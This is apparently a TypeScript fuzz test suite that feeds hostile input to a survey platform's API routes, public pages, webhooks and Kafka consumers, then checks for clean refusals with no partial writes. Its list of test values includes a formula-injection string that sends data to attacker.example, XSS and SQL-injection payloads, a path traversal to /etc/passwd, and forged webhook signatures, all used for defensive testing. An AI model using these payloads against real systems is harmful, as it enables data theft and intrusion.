import fc from 'fast-check';
import { Kafka, logLevel } from 'kafkajs';
import { randomUUID } from 'node:crypto';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { InvalidMessageError, TopicContract, TopicKey, Topics, decodeCloudEvent } from '@fg/contracts';
import { ExternalRefs } from '@fg/links';
import { ApiKeyService } from '../apps/gateway/src/auth/api-key.service';
import { PERMISSIONS } from '../apps/gateway/src/auth/permissions';
import { createTestDatabase, dropTestDatabase } from './setup/test-database';
import { eventually } from './support/eventually';
import { KafkaTestClient } from './support/kafka';
import { Pipeline, testConfig } from './support/pipeline';

/**
 * Issue #11's fuzz suite: generated hostile input (wrong types, huge and deep values, prototype keys, control
 * characters, invalid UTF-8, formulas, markup) against every ops route of the OpenAPI document, the public survey
 * routes, the provider webhooks and every consumed Kafka topic. It asserts no 5xx, every 400 naming the field, no
 * partial write (the tables' fingerprint is unchanged by a refused request), malformed messages dead-lettered with
 * their reason, and the next good message still handled. Seeded: FUZZ_SEED=<n> reproduces a run (the seed is
 * printed, and fast-check prints it with the shrunk counterexample on failure).
 */
const STRUCTURED_HEADERS = { 'content-type': 'application/cloudevents+json' };
const SEED = Number(process.env.FUZZ_SEED ?? Math.floor(Math.random() * 2 ** 31));
const RUNS = Number(process.env.FUZZ_RUNS ?? 40);

// ---------------------------------------------------------------------------------------------------------------
// Hostile values

const NASTY = [
  '',
  ' ',
  '=HYPERLINK("https://attacker.example/?x="&A2,"Click")',
  '+1-2',
  '@SUM(A1)',
  '\t=1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{{customer_name}}}',
  '{{#each this}}{{/each}}',
  "' OR 1=1 --",
  '../../etc/passwd',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  '\u0000',
  '\u0000\u0001\u001f\u007f',
  '\ud800',
  '\u202e\u2066',
  'é'.repeat(3),
  'x'.repeat(70_000),
  '00000000-0000-0000-0000-000000000000',
  'not-a-uuid',
  '2026-02-30T25:61:00Z',
  'NaN',
  '-1',
  '1e309',
];

const nasty = fc.oneof(
  fc.constantFrom(...NASTY),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
);
const nastyKey = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    'hasOwnProperty',
    '',
    'a.b',
    '$where',
    'x'.repeat(300),
  ),
  fc.string({ maxLength: 12 }),
);
const deep = fc
  .integer({ min: 30, max: 1200 })
  .chain((n) => fc.constantFrom<unknown>(nest(n, 'array'), nest(n, 'object'), nest(n, 'all')));
/** encodeURIComponent, with lone surrogates (which it can't encode) replaced. */
function enc(s: string): string {
  return encodeURIComponent(s.replace(/[\ud800-\udfff]/g, '\ufffd'));
}
function nest(n: number, how: 'array' | 'object' | 'all'): unknown {
  let v: unknown = how === 'all' ? { field: 'status', op: 'exists' } : 1;
  for (let i = 0; i < n; i++) v = how === 'array' ? [v] : how === 'object' ? { a: v } : { all: [v] };
  return v;
}
const { value: hostile } = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    nasty,
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(nastyKey, tie('value'), { maxKeys: 4 }),
    deep,
    fc.integer({ min: 10_001, max: 12_000 }).map((n) => Array.from({ length: n }, () => 'x')),
  ),
}));

/** A valid body with one part replaced or added: gets past the first checks, so deeper code is exercised. */
function mutated(valid: Record<string, unknown>) {
  const keys = Object.keys(valid);
  return fc.oneof(
    fc.record({ key: fc.constantFrom(...keys), v: hostile }).map(({ key, v }) => ({ ...valid, [key]: v })),
    fc.record({ key: nastyKey, v: hostile }).map(({ key, v }) => {
      const o: Record<string, unknown> = { ...valid };
      Object.defineProperty(o, key, { value: v, enumerable: true, configurable: true, writable: true });
      return o;
    }),
    fc.constantFrom(...keys).map((key) => {
      const o = { ...valid };
      delete o[key];
      return o;
    }),
  );
}

// ---------------------------------------------------------------------------------------------------------------

describe('fuzz: hostile input everywhere', () => {
  const kafka = new KafkaTestClient();
  let db: { name: string; url: string } | undefined;
  let pipeline: Pipeline;
  let key: string;
  let fx: { survey: string; distribution: string; link: string; token: string; rule: string };
  let base: string;
  let server: Server;
  let refs: ExternalRefs;

  beforeAll(async () => {
    process.stdout.write(
      `fuzz seed ${SEED} (FUZZ_SEED=${SEED} reproduces this run), ${RUNS} runs a target\n`,
    );
    // A database of its own: small tables, so a fingerprint of all of them is cheap to take around each request.
    db = await createTestDatabase('fg_fuzz');
    const config = testConfig({
      DATABASE_URL: db.url,
      LINK_GUESSES_PER_MINUTE: '100000',
      CHANNEL_PROVIDERS: 'sandbox',
    });
    refs = new ExternalRefs(config.LINK_SIGNING_SECRET);
    pipeline = await new Pipeline(config).start();
    key = (
      await pipeline.apps
        .get('gateway')!
        .get(ApiKeyService)
        .create('fuzz', [...PERMISSIONS])
    ).key;
    server = pipeline.gateway.listen(0);
    await new Promise((r) => server.once('listening', r));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    fx = await fixtures();
  }, 120_000);

  afterAll(async () => {
    await new Promise((r) => server?.close(r));
    await kafka.close();
    await pipeline?.close();
    await dropTestDatabase(db?.name);
  });

  async function call(method: string, path: string, body?: unknown, headers: Record<string, string> = {}) {
    const raw = body instanceof Uint8Array;
    const res = await fetch(`${base}${path}`, {
      method,
      headers: {
        Authorization: `Bearer ${key}`,
        ...(body === undefined ? {} : { 'Content-Type': 'application/json' }),
        ...headers,
      },
      body: body === undefined ? undefined : raw ? body : JSON.stringify(body),
    });
    const text = await res.text();
    let json: { error?: { code?: string; message?: string; details?: { fields?: { field: string }[] } } } =
      {};
    try {
      json = JSON.parse(text) as typeof json;
    } catch {
      /* HTML pages and CSV */
    }
    return { status: res.status, text, json };
  }

  async function fixtures() {
    const survey = await call('POST', '/ops/surveys', {
      name: 'Fuzz',
      languages: ['en', 'fr'],
      questions: [
        { id: 'nps', type: 'nps', required: true, label: { en: 'Recommend us?' } },
        { id: 'comment', type: 'free_text', label: { en: 'Anything else?' } },
      ],
    });
    const distribution = await call('POST', '/ops/distributions', {
      surveyId: (survey.json as { id: string }).id,
      name: 'Fuzz',
    });
    const d = (distribution.json as { id: string }).id;
    const link = await call('POST', '/ops/links', {
      distributionId: d,
      contact: { id: 'fz-1', name: 'Ada' },
    });
    const l = link.json as { linkId: string; url: string };
    const rule = await call('POST', '/ops/rules', validBodies(d)['/ops/rules']);
    return {
      survey: (survey.json as { id: string }).id,
      distribution: d,
      link: l.linkId,
      token: l.url.split('/s/')[1],
      rule: (rule.json as { id: string }).id,
    };
  }

  function validBodies(d: string): Record<string, Record<string, unknown>> {
    return {
      '/ops/surveys': {
        name: 'S',
        languages: ['en'],
        questions: [{ id: 'q', type: 'nps', label: { en: 'Q' } }],
      },
      '/ops/distributions': { surveyId: fx?.survey ?? randomUUID(), name: 'D', tags: { a: 'b' } },
      '/ops/rules': {
        name: 'fuzz rule',
        trigger: 'case.updated',
        enabled: false,
        conditions: { all: [{ field: 'status', op: 'changed_to', value: 'Resolved' }] },
        actions: [{ type: 'send_invitation', distributionId: d, channel: 'email' }],
      },
      '/ops/rules/dry-run': {
        rule: {
          name: 'x',
          trigger: 'case.updated',
          conditions: { all: [] },
          actions: [{ type: 'move_to_queue', queue: 'q' }],
        },
        case: { caseId: 'c', fields: { status: 'Resolved' } },
      },
      '/ops/links': { distributionId: d, contact: { id: 'c-1', name: 'A B', email: 'a@example.com' } },
      '/ops/contacts': { contacts: [{ id: 'c-2', name: 'C D', attributes: { plan: 'pro' } }] },
      '/ops/segments': { name: 'seg', filter: { attribute: 'plan', op: 'equals', value: 'pro' } },
      '/ops/suppressions': { channel: 'email', address: 'x@example.com', reason: 'fuzz' },
      '/ops/quarantine-rules': { name: 'q', maxInvitations: 3, period: { amount: 7, unit: 'days' } },
      '/ops/webhooks': { name: 'w', url: 'https://hooks.example.com/x', events: ['invite.status'] },
      '/ops/api-keys': { name: 'k', permissions: ['distribution:view'] },
      '/events/cases': {
        specversion: '1.0',
        id: 'e-1',
        source: 'fuzz',
        type: 'case.updated',
        data: { caseId: 'c-9', fields: { status: 'Open' } },
      },
      template: {
        channel: 'email',
        kind: 'invitation',
        language: 'en',
        subject: 'S',
        html: '<p>{{survey_link}}</p>',
        text: '{{survey_link}}',
      },
      'links/report': { ref: 'x'.repeat(20), status: 'Completed' },
    };
  }

  // -------------------------------------------------------------------------------------------------------------
  // The tables' fingerprint: a refused request must leave it unchanged.

  /** Tables that change by design on any request (bookkeeping), not by what a request asks for. */
  const BOOKKEEPING = new Set([
    'outbox',
    'outbox_relay_lease',
    'inbox',
    'link_guess_counters',
    'send_rate_slots',
    'migrations',
  ]);
  let fingerprintSql: string | undefined;
  async function fingerprint(): Promise<string> {
    if (!fingerprintSql) {
      const tables: { table_name: string }[] = await pipeline.ds.query(
        `SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE' ORDER BY 1`,
      );
      fingerprintSql = `SELECT ${tables
        .map((t) => t.table_name)
        .filter((t) => !BOOKKEEPING.has(t))
        .map((t) =>
          t === 'api_keys'
            ? `(SELECT count(*) FROM api_keys)::text` // last_used_at moves with every request
            : `(SELECT count(*) || ':' || coalesce(sum(hashtext(x::text)::bigint), 0) FROM "${t}" x)`,
        )
        .join(` || '|' || `)} AS f`;
    }
    const [{ f }]: { f: string }[] = await pipeline.ds.query(fingerprintSql);
    return f;
  }
  /** After a request that changed something, wait until the consequences (events, consumers) have settled. */
  async function settled(): Promise<string> {
    let last = await fingerprint();
    for (let i = 0; i < 50; i++) {
      await new Promise((r) => setTimeout(r, 100));
      const now = await fingerprint();
      if (now === last) return now;
      last = now;
    }
    return last;
  }

  let before = '';
  /** One request; the invariants every answer must keep. */
  async function check(method: string, path: string, body?: unknown, headers?: Record<string, string>) {
    before ||= await settled();
    const res = await call(method, path, body, headers);
    const where = `${method} ${path} → ${res.status} ${res.text.slice(0, 300)}`;
    if (res.status >= 500) throw new Error(`5xx: ${where}`);
    if (res.status >= 400) {
      if (res.json.error) expect(typeof res.json.error.message).toBe('string');
      if (res.status === 400 && res.json.error) {
        const fields = res.json.error.details?.fields ?? [];
        const named =
          fields.length > 0 && fields.every((f) => typeof f.field === 'string' && f.field.length > 0)
            ? true
            : /^[\w$.\-()[\] ]+: /.test(res.json.error.message ?? '');
        if (!named) throw new Error(`a 400 that names no field: ${where}`);
      }
      const after = await fingerprint();
      if (after !== before) throw new Error(`a refused request changed the database: ${where}`);
    } else before = await settled();
    return res;
  }

  // -------------------------------------------------------------------------------------------------------------

  it('answers every ops route of the OpenAPI document with a 4xx naming the field, and never writes half', async () => {
    const doc = (await call('GET', '/docs/openapi.json')).json as unknown as {
      paths: Record<string, Record<string, { parameters?: { name: string; in: string }[] }>>;
    };
    const ops = Object.entries(doc.paths).flatMap(([path, methods]) =>
      Object.entries(methods).map(([method, op]) => ({ path, method: method.toUpperCase(), op })),
    );
    expect(ops.length).toBeGreaterThan(40);
    const bodies = validBodies(fx.distribution);
    const idFor = (name: string) =>
      /rule/i.test(name) ? fx.rule : /link/i.test(name) ? fx.link : fx.distribution;
    let cases = 0;
    for (const { path, method, op } of ops) {
      const params = (op.parameters ?? []).filter((p) => p.in === 'path').map((p) => p.name);
      const queries = (op.parameters ?? []).filter((p) => p.in === 'query').map((p) => p.name);
      const valid =
        bodies[path] ??
        (path.endsWith('/templates')
          ? bodies.template
          : path.includes('report')
            ? bodies['links/report']
            : {});
      const request = fc.record({
        ids: fc.array(fc.oneof(fc.constant(null), nasty), {
          minLength: params.length,
          maxLength: params.length,
        }),
        query: fc.dictionary(
          fc.oneof(fc.constantFrom(...(queries.length ? queries : ['x'])), nastyKey),
          nasty,
          {
            maxKeys: 3,
          },
        ),
        body:
          method === 'GET'
            ? fc.constant(undefined)
            : fc.oneof(hostile, Object.keys(valid).length ? mutated(valid) : hostile),
      });
      await fc.assert(
        fc.asyncProperty(request, async ({ ids, query, body }) => {
          cases++;
          let p = path;
          params.forEach((name, i) => {
            p = p.replace(`{${name}}`, enc(ids[i] ?? idFor(name)));
          });
          const qs = new URLSearchParams(
            Object.entries(query).map(([k, v]): [string, string] => [k, v]),
          ).toString();
          await check(method, qs ? `${p}?${qs}` : p, body);
        }),
        { seed: SEED, numRuns: RUNS },
      );
    }
    process.stdout.write(`fuzz: ${cases} requests over ${ops.length} ops routes\n`);
  }, 600_000);

  it('answers invalid UTF-8, wrong content types and broken JSON with a 4xx', async () => {
    const bytes = fc
      .uint8Array({ minLength: 1, maxLength: 300 })
      .map((b) =>
        Buffer.concat([
          Buffer.from('{"name":"'),
          Buffer.from(b),
          Buffer.from([0xc3, 0x28, 0xff]),
          Buffer.from('"}'),
        ]),
      );
    await fc.assert(
      fc.asyncProperty(
        bytes,
        fc.constantFrom('/ops/surveys', '/ops/links', '/ops/rules', '/events/cases'),
        async (b, path) => {
          // Invalid UTF-8 decodes to U+FFFD (the body may then be valid); what matters is no 5xx, no half write.
          await check('POST', path, b);
        },
      ),
      { seed: SEED, numRuns: RUNS * 2 },
    );
    for (const type of [
      'text/plain',
      'application/xml',
      'multipart/form-data; boundary=x',
      'application/json; charset=utf-7',
    ])
      expect(
        (await check('POST', '/ops/surveys', Buffer.from('{"name":"x"}'), { 'Content-Type': type })).status,
      ).toBeLessThan(500);
  });

  it('serves the public survey pages whatever the token, form or answers', async () => {
    const form = fc.dictionary(
      fc.oneof(
        fc.constantFrom(
          'q.nps',
          'q.comment',
          'action',
          'q.__proto__',
          'q.constructor',
          'action[]',
          'q.nps[a]',
        ),
        nastyKey,
      ),
      fc.oneof(nasty, fc.constantFrom('save', 'submit', 'skip', '5', '11', '-1', '5.5')),
      { maxKeys: 5 },
    );
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(fc.constant(fx.token), nasty),
        form,
        fc.boolean(),
        async (token, f, asJson) => {
          const path = `/s/${enc(token)}`;
          const get = await call('GET', path);
          expect(get.status).toBeLessThan(500);
          const res = await fetch(`${base}${path}`, {
            method: 'POST',
            headers: { 'Content-Type': asJson ? 'application/json' : 'application/x-www-form-urlencoded' },
            body: asJson ? JSON.stringify(f) : new URLSearchParams(Object.entries(f)).toString(),
            redirect: 'manual',
          });
          if (res.status >= 500) throw new Error(`5xx on POST ${path}: ${await res.text()}`);
          await res.text();
          before = '';
        },
      ),
      { seed: SEED, numRuns: RUNS * 5 },
    );
  });

  it('answers forged or malformed provider webhooks with 400/401, never 5xx, and changes nothing', async () => {
    const body = fc.oneof(
      hostile.map((v) => JSON.stringify(v) ?? 'null'),
      fc.string({ unit: 'binary', maxLength: 200 }),
    );
    const headers = fc.dictionary(
      fc.constantFrom(
        'X-Twilio-Email-Event-Webhook-Signature',
        'X-Twilio-Email-Event-Webhook-Timestamp',
        'X-Twilio-Signature',
      ),
      fc.oneof(
        nasty.map((s) => s.replace(/[^\x20-\x7e]/g, '')),
        fc.constantFrom('MEUCIQ==', '1700000000', '99999999999999'),
      ),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(
          '/webhooks/sendgrid',
          '/webhooks/twilio/status',
          '/webhooks/twilio/inbound',
          '/webhooks/twilio/status?inviteId=x',
        ),
        body,
        headers,
        fc.constantFrom('application/json', 'application/x-www-form-urlencoded', 'text/plain'),
        async (path, b, h, type) => {
          const res = await check('POST', path, Buffer.from(b), {
            ...h,
            'Content-Type': type,
            Authorization: '',
          });
          expect([400, 401, 413, 415, 431]).toContain(res.status);
        },
      ),
      { seed: SEED, numRuns: RUNS * 3 },
    );
  });

  it('dead-letters every malformed message with its reason and still handles the next good one, on every topic', async () => {
    const config = pipeline.config;
    const name = (t: TopicKey) => `${config.KAFKA_TOPIC_PREFIX}${Topics[t].name}`;
    const now = new Date().toISOString();
    const uuid = () => randomUUID();
    const good: Partial<Record<TopicKey, Record<string, unknown>>> = {
      caseEvents: { caseId: `fz-${uuid()}`, fields: { status: 'Open' } },
      surveyActions: {
        actionId: uuid(),
        ruleId: uuid(),
        ruleVersion: 1,
        caseId: 'fz-none',
        distributionId: uuid(),
        kind: 'issue_link',
        linkField: 'survey_link',
      },
      surveyActionResults: {
        actionId: uuid(),
        caseId: 'fz',
        kind: 'invitation',
        outcome: 'failed',
        reason: null,
        linkId: null,
        inviteId: null,
        occurredAt: now,
      },
      linkIssued: {
        linkId: uuid(),
        caseId: 'fz',
        distributionId: uuid(),
        url: 'https://x.example/s/a',
        expiresAt: null,
      },
      caseFieldUpdates: { caseId: 'fz', field: 'survey_link', value: 'x', reason: 'fuzz' },
      dispatchEmail: {
        inviteId: uuid(),
        caseId: 'fz',
        distributionId: uuid(),
        kind: 'invitation',
        channel: 'email',
        language: 'en',
        recipient: 'a@example.com',
        link: { url: 'https://x.example/s/a', expiresAt: null },
        variables: {},
      },
      dispatchSms: {
        inviteId: uuid(),
        caseId: 'fz',
        distributionId: uuid(),
        kind: 'invitation',
        channel: 'sms',
        language: 'en',
        recipient: '+14155550100',
        link: { url: 'https://x.example/s/a', expiresAt: null },
        variables: {},
      },
      dispatchWhatsapp: {
        inviteId: uuid(),
        caseId: 'fz',
        distributionId: uuid(),
        kind: 'invitation',
        channel: 'whatsapp',
        language: 'en',
        recipient: '+14155550100',
        link: { url: 'https://x.example/s/a', expiresAt: null },
        variables: {},
      },
      deliveryReceipts: {
        provider: 'sandbox',
        channel: 'email',
        inviteId: uuid(),
        providerMessageId: null,
        event: 'delivered',
        occurredAt: now,
        reason: null,
        providerEventId: null,
      },
      inviteStatus: {
        inviteId: uuid(),
        caseId: 'fz',
        distributionId: uuid(),
        channel: 'email',
        kind: 'invitation',
        status: 'Invite Sent',
        previousStatus: 'Pending',
        deliveryStatus: 'accepted',
        reason: null,
        occurredAt: now,
      },
      responseStatus: {
        linkId: uuid(),
        caseId: 'fz',
        distributionId: uuid(),
        status: 'Survey Opened',
        previousStatus: 'Not Started',
        occurredAt: now,
      },
      responseReports: { ref: refs.issue(fx.link, new Date()), status: 'Survey Opened' },
    };
    const consumers: Partial<Record<TopicKey, string[]>> = {
      caseEvents: ['rules'],
      surveyActions: ['link-issuer'],
      surveyActionResults: ['rules-action-results'],
      linkIssued: ['gateway-webhooks-link-issued'],
      caseFieldUpdates: ['gateway-webhooks-case-fields'],
      dispatchEmail: ['sender-email'],
      dispatchSms: ['sender-sms'],
      dispatchWhatsapp: ['sender-whatsapp'],
      deliveryReceipts: ['gateway-receipts'],
      inviteStatus: ['rules-invite-status', 'gateway-webhooks-invite-status'],
      responseStatus: ['rules-response-status', 'gateway-webhooks-response-status'],
      responseReports: ['gateway-response-reports'],
    };
    const consumed = (Object.keys(Topics) as TopicKey[]).filter((t) => Topics[t].consumers.length);
    expect(consumed.sort()).toEqual((Object.keys(consumers) as TopicKey[]).sort());

    const envelope = (t: TopicKey, data: unknown, over: Record<string, unknown> = {}) => ({
      specversion: '1.0',
      id: uuid(),
      source: 'fuzz',
      type: Topics[t].types[0],
      data,
      ...over,
    });
    /** Records that can't be a valid event of topic t: bad bytes, bad envelopes, or data one hostile edit away. */
    const malformed = (t: TopicKey) =>
      fc.oneof(
        fc
          .uint8Array({ minLength: 0, maxLength: 200 })
          .map((b) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(b)])),
        hostile.map((v) => Buffer.from(JSON.stringify(v) ?? 'null')),
        fc
          .record({ k: fc.constantFrom('specversion', 'id', 'source', 'type', 'data'), v: hostile })
          .map(({ k, v }) =>
            Buffer.from(JSON.stringify(envelope(t, good[t], { [k]: v === undefined ? null : v }))),
          ),
        fc
          .record({ k: nastyKey.filter((k) => !(k in good[t]!)), v: hostile })
          .map(({ k, v }) =>
            Buffer.from(
              `${JSON.stringify(envelope(t, good[t])).slice(0, -2)},${JSON.stringify(k)}:${JSON.stringify(v) ?? 'null'}}}`,
            ),
          ),
        fc
          .record({ k: fc.constantFrom(...Object.keys(good[t]!)), v: deep })
          .map(({ k, v }) => Buffer.from(JSON.stringify(envelope(t, { ...good[t], [k]: v })))),
      );

    // Consumers whose handler is idempotent by itself keep no inbox (the outbound-webhook ones: a delivery is unique
    // per subscription and event): for them, the good message was handled when their group's committed offset
    // passed it without a dead letter for it.
    const withoutInbox = new Set([
      'gateway-webhooks-link-issued',
      'gateway-webhooks-case-fields',
      'gateway-webhooks-invite-status',
      'gateway-webhooks-response-status',
    ]);
    const admin = new Kafka({
      brokers: process.env.KAFKA_BROKERS!.split(','),
      logLevel: logLevel.NOTHING,
    }).admin();
    await admin.connect();
    const sent: { topic: TopicKey; key: string; bad: number; goodId: string; ends: Map<number, number> }[] =
      [];
    for (const t of consumed) {
      const bad = fc.sample(malformed(t), { seed: SEED, numRuns: RUNS });
      // Some generated edits could still be a valid event (e.g. the envelope's `source` swapped for another
      // string): keep only those the contract refuses, which is what the consumers must dead-letter.
      const refused = bad.filter((b) => !validEvent(t, b));
      // One key: one partition, so the good message comes after every bad one and is handled only past them all.
      const key = `fz-${t}-${uuid()}`;
      const ok = envelope(t, good[t]);
      await kafka.produce(name(t), [
        // Half of them as structured CloudEvents (so the body is parsed and checked), half with no headers at all.
        ...refused.map((value, i) => ({ key, value, headers: i % 2 ? {} : STRUCTURED_HEADERS })),
        { key, value: JSON.stringify(ok), headers: STRUCTURED_HEADERS },
      ]);
      const ends = new Map(
        (await admin.fetchTopicOffsets(name(t))).map((o) => [o.partition, Number(o.high)]),
      );
      sent.push({ topic: t, key, bad: refused.length, goodId: `fuzz#${ok.id}`, ends });
    }
    let messages = 0;
    for (const { topic, key, bad, goodId, ends } of sent) {
      for (const consumer of consumers[topic]!) {
        await eventually(async () => {
          if (withoutInbox.has(consumer)) {
            const [committed] = await admin.fetchOffsets({
              groupId: `${config.KAFKA_TOPIC_PREFIX}${consumer}`,
              topics: [name(topic)],
            });
            const behind = committed.partitions.filter(
              (p) => (ends.get(p.partition) ?? 0) > Math.max(0, Number(p.offset)),
            );
            expect([topic, consumer, behind]).toEqual([topic, consumer, []]);
          } else {
            const handled = await pipeline.ds.query(
              `SELECT 1 FROM inbox WHERE consumer = $1 AND message_id = $2`,
              [consumer, goodId],
            );
            expect([topic, consumer, handled.length]).toEqual([topic, consumer, 1]);
          }
          const dead: { record_key: string; reason: string; code: string }[] = await pipeline.ds.query(
            `SELECT record_key, reason, code FROM dead_letters WHERE consumer = $1 AND record_key = $2`,
            [consumer, key],
          );
          expect([topic, consumer, dead.length]).toEqual([topic, consumer, bad]);
          for (const d of dead) expect(d.reason).toMatch(/^invalid message: .+/);
        }, 60_000);
      }
      messages += bad + 1;
    }
    await admin.disconnect();
    process.stdout.write(`fuzz: ${messages} messages on ${sent.length} topics\n`);
  }, 300_000);
});

/** Whether a record decodes as a valid event of topic t (the generator's edits sometimes leave it valid). */
function validEvent(t: TopicKey, value: Buffer): boolean {
  try {
    decodeCloudEvent(Topics[t] as TopicContract, { key: null, value, headers: STRUCTURED_HEADERS });
    return true;
  } catch (e) {
    if (e instanceof InvalidMessageError) return false;
    throw e;
  }
}
